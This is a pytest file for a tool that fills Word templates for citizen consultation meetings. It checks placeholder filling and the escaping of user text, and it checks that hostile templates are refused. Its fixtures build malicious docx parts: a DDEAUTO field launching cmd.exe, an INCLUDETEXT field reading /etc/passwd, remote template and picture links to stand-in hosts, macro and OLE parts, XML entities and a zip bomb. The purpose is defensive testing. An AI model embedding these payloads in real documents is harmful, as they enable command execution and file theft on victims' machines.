"""An office's own template: filled as plain text however the program cut it, hostile ones refused with a sentence."""

import io
import zipfile

import docx
import pytest
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls

from deliberation.domain.errors import Refusal
from deliberation.domain.paper import Grid, Para
from deliberation.domain.paper_templates import (
    KINDS,
    KNOWN,
    TITLES,
    Values,
    as_text,
    fill_parts,
    filled,
    shipped,
)
from deliberation.formats import paper_template_docx, papers_docx

PEOPLE = [
    {"序号": str(n), "姓名": name, "身份": "居民"} for n, name in enumerate(("张三", "李四", "王建国"), 1)
]
MEETING = Values(
    {"会议名称": "充电安全座谈会", "单位": "甲街道联系点", "议题": "《××条例（草案）》", "地点": "二楼", "时间": "2026年6月11日（星期四）09:00",
     "应到人数": "3", "电话": ""},
    {"名单": PEOPLE, "议程": [{"序号": "1", "事项": "介绍草案"}], "条款": [{"条": "第三条", "原文": "甲。\n乙。", "白话": "丙。"}]},
)  # fmt: skip


def packed(document):
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def of(*paragraphs):
    document = docx.Document()
    for text in paragraphs:
        document.add_paragraph(text)
    return packed(document)


def opened(data):
    return docx.Document(io.BytesIO(data))


def lines(data):
    return [p.text for p in opened(data).paragraphs]


@pytest.mark.parametrize("kind", KINDS)
def test_every_shipped_template_says_the_same_as_word_file_and_as_text(kind):
    template = papers_docx.write_template(kind)
    paper_template_docx.check(template)
    made = paper_template_docx.fill(template, MEETING)
    assert made == paper_template_docx.fill(template, MEETING)
    words = "".join(as_text(paper_template_docx.read_parts(made)).split())
    assert "{{" not in words
    if kind != "cards":
        assert words == "".join(as_text(list(fill_parts(shipped(kind), MEETING))).split())
    else:
        assert [cell.text for row in opened(made).tables[0].rows for cell in row.cells] == [
            "张三",
            "李四",
            "王建国",
        ]
    assert filled(TITLES[kind], MEETING) == TITLES[kind].replace("{{会议名称}}", "充电安全座谈会").replace(
        "{{议题}}", "《××条例（草案）》"
    )


@pytest.mark.parametrize("cuts", [(1,), (2,), (3, 5), (1, 2, 3, 4, 5, 6, 7), (0, 8)])
def test_a_placeholder_cut_into_runs_is_filled_and_keeps_its_look(cuts):
    document = docx.Document()
    paragraph = document.add_paragraph("请到")
    whole, at = "{{会议名称}}", 0
    for cut in (*cuts, len(whole)):
        run = paragraph.add_run(whole[at:cut])
        run.bold = at == 0
        at = cut
    paragraph.add_run("来{{地点}}")
    made = opened(paper_template_docx.fill(packed(document), MEETING)).paragraphs[0]
    assert made.text == "请到充电安全座谈会来二楼"
    assert next(run for run in made.runs if "充电" in run.text).bold


def test_rows_and_paragraphs_are_copied_for_every_entry():
    document = docx.Document()
    document.add_paragraph("{{议程.序号}}、{{议程.事项}}")
    table = document.add_table(rows=3, cols=2)
    for cell, text in zip([c for r in table.rows for c in r.cells], ["序号", "姓名", "{{名单.序号}}", "{{名单.姓名}}", "合计", "{{应到人数}}"], strict=True):  # fmt: skip
        cell.text = text
    made = opened(paper_template_docx.fill(packed(document), MEETING))
    assert made.paragraphs[0].text == "1、介绍草案"
    assert [[c.text for c in row.cells] for row in made.tables[0].rows] == [
        ["序号", "姓名"], ["1", "张三"], ["2", "李四"], ["3", "王建国"], ["合计", "3"]
    ]  # fmt: skip
    empty = opened(paper_template_docx.fill(packed(document), Values({})))
    assert [[c.text for c in row.cells] for row in empty.tables[0].rows][1] == ["", ""]


def test_a_line_whose_placeholders_are_all_empty_is_left_out_others_stay():
    made = paper_template_docx.fill(of("电话：{{电话}}", "到{{地点}}，{{电话}}", "没有占位"), MEETING)
    assert lines(made) == ["到二楼，", "没有占位"]


def test_words_are_words_and_line_feeds_are_breaks():
    given = Values({"地点": "<w:p/>&{{会议名称}}\x07{% 1+1 %}\n楼上"})
    assert lines(paper_template_docx.fill(of("{{地点}}", "{% if x %}"), given)) == [
        "<w:p/>&{{会议名称}}{% 1+1 %}\n楼上",
        "{% if x %}",
    ]


def test_braces_in_somebodys_words_are_not_read_as_placeholders():
    document = docx.Document()
    document.add_table(rows=1, cols=1).rows[0].cells[0].text = "{{议程.事项}}"
    given = Values({}, {"议程": [{"序号": "1", "事项": "讨论{{会议名称}}和{{x"}]})
    made = opened(paper_template_docx.fill(packed(document), given))
    assert made.tables[0].rows[0].cells[0].text == "讨论{{会议名称}}和{{x"


def test_headers_and_text_of_everything_else_stay():
    document = docx.Document()
    document.sections[0].header.paragraphs[0].text = "{{单位}}"
    document.add_paragraph("甲{{地点}}乙")
    made = opened(paper_template_docx.fill(packed(document), MEETING))
    assert made.sections[0].header.paragraphs[0].text == "甲街道联系点"
    assert made.paragraphs[0].text == "甲二楼乙"


@pytest.mark.parametrize(
    ("text", "why"),
    [
        ("{{会议名}}", "不认识的占位“会议名”.*会议名称"), ("{{ 7*7 }}", "不认识的占位“7\\*7”"), ("{{名单.电话}}", "不认识的占位"),
        ("{{会议名称}", "没写完的占位"), ("会议名称}}", "没写完的占位"), ("{{名单.姓名}}{{议程.事项}}", "不能混用"),
        ("{{config.__class__}}", "不认识的占位"),
    ],
)  # fmt: skip
def test_what_is_not_a_known_placeholder_is_refused_by_name(text, why):
    with pytest.raises(Refusal, match=why):
        paper_template_docx.check(of(text))


def test_the_refusal_lists_every_placeholder_there_is():
    with pytest.raises(Refusal) as refused:
        paper_template_docx.check(of("{{?}}"))
    assert all(name in str(refused.value.said) for name in KNOWN)


def with_part(name, data=b"x", replace=None):
    """A sound file with one part added or changed."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(of("正文"))) as was, zipfile.ZipFile(out, "w") as made:
        for entry in was.namelist():
            old = was.read(entry)
            made.writestr(entry, old.replace(*replace) if replace and entry == name else old)
        if replace is None:
            made.writestr(name, data)
    return out.getvalue()


def with_body(xml):
    document = docx.Document()
    document.element.body.insert(0, parse_xml(f"<w:p {nsdecls('w', 'r')}>{xml}</w:p>"))
    return packed(document)


OUTWARD = b'<Relationship Id="rX" Type="http://x/hyperlink" Target="http://evil.example/" TargetMode="External"/></Relationships>'
HOSTILE = {
    "macro": lambda: with_part("word/vbaProject.bin"),
    "embedded": lambda: with_part("word/embeddings/oleObject1.bin"),
    "activex": lambda: with_part("word/activeX/activeX1.xml"),
    "outward": lambda: with_part("word/_rels/document.xml.rels", replace=(b"</Relationships>", OUTWARD)),
    "attached": lambda: with_part(
        "word/_rels/settings.xml.rels",
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        b'Type="http://x/attachedTemplate" Target="\\\\evil\\a.dotm"/></Relationships>',
    ),
    "a picture from elsewhere, its field cut in two": lambda: with_body(
        '<w:r><w:instrText>INCLUDE</w:instrText></w:r><w:r><w:instrText>PICTURE "http://a.example/x.png"</w:instrText></w:r>'
    ),
    "a field in the footnotes": lambda: with_part(
        "word/footnotes.xml",
        f"<w:footnotes {nsdecls('w')}><w:p><w:r><w:instrText>DDEAUTO c</w:instrText></w:r></w:p></w:footnotes>".encode(),
    ),
    "repeated without end": lambda: of(*["{{名单.姓名}}"] * 201),
    "dde": lambda: with_body("<w:r><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:r>"),
    "include": lambda: with_body(
        '<w:fldSimple w:instr="INCLUDETEXT /etc/passwd"><w:r><w:t>x</w:t></w:r></w:fldSimple>'
    ),
    "entities": lambda: with_part(
        "word/document.xml", replace=(b"<w:document", b"<!DOCTYPE a [<!ENTITY x 'y'>]><w:document")
    ),
    "bomb": lambda: with_part("word/media/a.xml", b"0" * (32 * 1024 * 1024)),
    "not a zip": lambda: b"%PDF-1.4",
    "another zip": lambda: _zip({"a.txt": b"x"}),
    "empty": lambda: b"",
    "too large": lambda: b"PK" + b"0" * (6 * 1024 * 1024),
    "cut": lambda: of("正文")[:-200],
}


def _zip(entries):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, data in entries.items():
            made.writestr(name, data)
    return out.getvalue()


@pytest.mark.parametrize("kind", HOSTILE)
def test_hostile_templates_are_refused_with_a_sentence(kind):
    with pytest.raises(Refusal) as refused:
        paper_template_docx.check(HOSTILE[kind]())
    assert str(refused.value.said).endswith("。")


def test_a_paper_is_read_back_as_parts_with_its_title_and_table():
    parts = paper_template_docx.read_parts(
        paper_template_docx.fill(papers_docx.write_template("sign-in"), MEETING)
    )
    assert parts[0] == Para("title", "充电安全座谈会签到表")
    (grid,) = [part for part in parts if isinstance(part, Grid)]
    assert grid.heads == ("序号", "姓名", "身份", "签名", "到会时间")
    assert [row[1] for row in grid.rows][:4] == ["张三", "李四", "王建国", ""]
